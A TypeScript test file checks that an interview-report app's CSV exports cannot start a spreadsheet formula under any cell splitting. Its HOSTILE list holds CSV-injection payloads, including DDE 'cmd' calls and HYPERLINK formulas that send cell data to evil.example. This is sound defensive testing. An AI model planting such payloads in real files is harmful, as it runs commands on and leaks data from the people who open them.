// CSV exports opened in a spreadsheet: no cell may start a formula, however the file is split into cells (Excel
// splits on ";" in many locales, LibreOffice's import dialog on tab, "|" or anything, some tools ignore quotes),
// and ordinary text comes back exactly as written.
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { assembleReport } from "@/lib/report/assemble";
import { matrixCsv, ratingsCsv, type RatingRow } from "@/lib/report/csv";
import { fixtureInput, V2 } from "./report-fixture";

const HOSTILE = [
  "=1+1",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  'ok;=HYPERLINK("https://evil.example/?"&A1,"click")',
  'ok,=HYPERLINK("https://evil.example","click")',
  "ok\t=cmd|' /C calc'!A0",
  "ok|=1+1",
  "first line\n=1+1",
  "first line\r\n@SUM(A1)",
  "first line\r+1+1",
  "ok; -1+1",
  "ok;;=1+1",
  '"quoted";=1+1',
  "=;=;=",
];

const ORDINARY = [
  "Explained fencing, leader locks and the split-brain risk.",
  "e-mail alice@example.com about the 3-4 year plan",
  "x = y + 1 when C++ and well-known",
  "Said \"it depends\", then measured: p99 went 120 ms -> 40 ms",
  "Two lines\nof evidence",
  "Café naïve 😀 — ü",
  "",
];

const row = (note: string, name = "Candidate"): RatingRow => ({ candidate: name, interviewer: name, stageId: "all", versionId: "v2", criterionId: "ha-a", level: 3, noEvidence: false, note, submittedAt: null });

/** Every way a spreadsheet may cut the file into cells: by each separator, honouring quotes or not. */
function cellsAsSpreadsheetsSee(csv: string): string[] {
  const cells: string[] = [];
  for (const delimiter of [",", ";", "\t", "|"]) {
    for (const r of Papa.parse<string[]>(csv, { delimiter }).data) cells.push(...r);
    for (const line of csv.split(/\r\n|\r|\n/)) cells.push(...line.split(delimiter).map((c) => c.replace(/^"+/, "")));
  }
  return cells;
}

const startsFormula = (cell: string) => /^[ \t\r\n]*[=+\-@]/.test(cell) && !/^[ \t]*[+-]?\d+(\.\d+)?$/.test(cell);

describe("CSV exports and spreadsheet formulas", () => {
  test("no cell of the ratings export starts a formula, however a spreadsheet splits it", () => {
    const csv = ratingsCsv(HOSTILE.map((note, i) => row(note, HOSTILE[(i + 3) % HOSTILE.length])), [V2]);
    const formulas = cellsAsSpreadsheetsSee(csv).filter(startsFormula);
    expect(formulas).toEqual([]);
  });

  test("no cell of the matrix export starts a formula, headers included", () => {
    const input = fixtureInput();
    input.interviews = input.interviews.map((iv, i) => ({ ...iv, candidateName: HOSTILE[i]! }));
    const competency = V2.definition.competencies[0]!;
    input.versions = [input.versions[0]!, { ...V2, definition: { ...V2.definition, competencies: [{ ...competency, name: "ok;=1+1" }, ...V2.definition.competencies.slice(1)] } }];
    const csv = matrixCsv(assembleReport(input));
    expect(cellsAsSpreadsheetsSee(csv).filter(startsFormula)).toEqual([]);
  });

  test("ordinary notes and plain numbers come back exactly as written", () => {
    const csv = ratingsCsv(ORDINARY.map((note) => row(note)), [V2]);
    const parsed = Papa.parse<string[]>(csv).data.slice(1);
    expect(parsed.map((r) => r[6])).toEqual(ORDINARY);
    expect(parsed.map((r) => r[5])).toEqual(ORDINARY.map(() => "3"));
  });
});
